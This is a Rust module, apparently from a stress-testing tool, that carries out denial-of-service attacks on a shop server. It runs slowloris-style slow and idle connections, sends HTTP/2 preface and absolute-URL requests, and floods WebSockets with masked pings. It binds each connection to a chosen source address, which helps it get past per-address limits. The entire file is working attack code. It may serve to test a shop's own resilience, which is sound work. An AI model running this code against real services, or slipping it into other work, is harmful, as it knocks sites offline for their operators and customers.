//! Attacks below HTTP, on raw connections.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout_at};

use super::attack::{Tally, Target};

/// Connections that one address holds at the same time.
const CONNECTIONS: usize = 60;
/// Sockets that one address asks for.
const SOCKETS: usize = 60;
const PAUSE: Duration = Duration::from_millis(500);
/// Pause between two bytes of a slow client.
const BYTE: Duration = Duration::from_secs(5);
/// Pings in one write.
const PINGS: usize = 1000;
/// An empty ping with a mask of zeros: [RFC 6455](https://www.rfc-editor.org/rfc/rfc6455#section-5.2).
const PING: [u8; 6] = [0x89, 0x80, 0, 0, 0, 0];

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
const ABSOLUTE: &[u8] = b"GET http://shop.example/stores HTTP/1.1\r\nhost: shop.example\r\nconnection: close\r\n\r\n";
const HEAD: &[u8] = b"GET / HTTP/1.1\r\nhost: shop.example\r\nx-slow: ";
const BODY: &[u8] =
    b"POST /checkout/api/cart/lines HTTP/1.1\r\nhost: shop.example\r\ncontent-type: application/json\r\n\
    content-length: 5000\r\n\r\n{";

/// Holds connections that send nothing, or a byte now and then, and replaces each that the shop closes.
pub async fn slow(shop: SocketAddr, source: IpAddr, until: Instant) -> Tally {
    let mut holding = JoinSet::new();
    for number in 0..CONNECTIONS {
        let begin = [&[][..], HEAD, BODY][number % 3];
        holding.spawn(hold(shop, source, begin, until));
    }
    let mut tally = Tally::default();
    for outcome in holding.join_all().await.into_iter().flatten() {
        tally.add(outcome.to_owned());
    }
    tally
}

async fn hold(shop: SocketAddr, source: IpAddr, begin: &'static [u8], until: Instant) -> Vec<&'static str> {
    let mut outcomes = Vec::new();
    while Instant::now() < until {
        let outcome = timeout_at(until, hold_once(shop, source, begin)).await;
        outcomes.push(match outcome {
            Ok(Ok(())) => "ended by the shop",
            Ok(Err(_)) => "refused",
            Err(_) => "held to the end",
        });
        sleep(PAUSE).await;
    }
    outcomes
}

async fn hold_once(shop: SocketAddr, source: IpAddr, begin: &[u8]) -> io::Result<()> {
    let mut stream = connect(shop, source).await?;
    stream.write_all(begin).await?;
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = stream.read(&mut answer) => match read {
                Ok(1..) => {}
                Ok(0) | Err(_) => return Ok(()),
            },
            () = sleep(BYTE) => if !begin.is_empty() && stream.write_all(b"a").await.is_err() {
                return Ok(());
            },
        }
    }
}

/// Sends HTTP/2 and absolute URLs.
pub async fn protocols(shop: SocketAddr, source: IpAddr, until: Instant) -> Tally {
    let mut tally = Tally::default();
    let mut nth = 0;
    while Instant::now() < until {
        let request = [PREFACE, ABSOLUTE][nth % 2];
        let outcome = timeout_at(until, exchange(shop, source, request)).await;
        tally.add(match outcome {
            Ok(Ok(line)) => line,
            Ok(Err(_)) => "ended by the shop".to_owned(),
            Err(_) => "held to the end".to_owned(),
        });
        sleep(PAUSE / 5).await;
        nth += 1;
    }
    tally
}

/// The first line of the response.
async fn exchange(shop: SocketAddr, source: IpAddr, request: &[u8]) -> io::Result<String> {
    let mut stream = connect(shop, source).await?;
    stream.write_all(request).await?;
    let mut answer = vec![0; 4096];
    let length = stream.read(&mut answer).await?;
    let line = answer[..length].split(|byte| *byte == b'\r').next().unwrap_or_default();
    Ok(String::from_utf8_lossy(line)
        .chars()
        .take(40)
        .filter(|letter| letter.is_ascii_graphic() || *letter == ' ')
        .collect())
}

/// Opens WebSockets for a product's stock, and sends endless pings on each.
pub async fn sockets(target: &Target, source: IpAddr, until: Instant) -> Tally {
    let mut open = JoinSet::new();
    for number in 0..SOCKETS {
        open.spawn(socket(target.clone(), source, number, until));
    }
    let mut tally = Tally::default();
    for outcome in open.join_all().await.into_iter().flatten() {
        tally.add(outcome);
    }
    tally
}

async fn socket(target: Target, source: IpAddr, number: usize, until: Instant) -> Vec<String> {
    let mut outcomes = Vec::new();
    while Instant::now() < until {
        let outcome = timeout_at(until, socket_once(&target, source, number)).await;
        outcomes.push(match outcome {
            Ok(Ok(line)) => line,
            Ok(Err(_)) => "ended by the shop".to_owned(),
            Err(_) => "held to the end".to_owned(),
        });
        sleep(PAUSE).await;
    }
    outcomes
}

async fn socket_once(target: &Target, source: IpAddr, number: usize) -> io::Result<String> {
    let (_, slug) = target.goods(number);
    let shop = target.shell();
    let request = format!(
        "GET /product/api/products/{slug}/stock/live HTTP/1.1\r\nhost: {shop}\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
         sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    );
    let mut stream = connect(shop, source).await?;
    stream.write_all(request.as_bytes()).await?;
    let mut answer = vec![0; 4096];
    let length = stream.read(&mut answer).await?;
    let line = String::from_utf8_lossy(&answer[..length])
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    if !line.starts_with("HTTP/1.1 101") {
        return Ok(line);
    }
    let (mut reader, mut writer) = stream.split();
    let pings = PING.repeat(PINGS);
    // One in ten sends pings; the others stay silent.
    let loud = async {
        loop {
            if number.is_multiple_of(10) {
                writer.write_all(&pings).await?;
            }
            sleep(PAUSE / 5).await;
        }
    };
    let hear = async {
        while reader.read(&mut answer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = loud => ended,
        ended = hear => ended,
    }
    .map(|()| "ended by the shop".to_owned())
}

async fn connect(shop: SocketAddr, source: IpAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((source, 0).into())?;
    socket.connect(shop).await
}
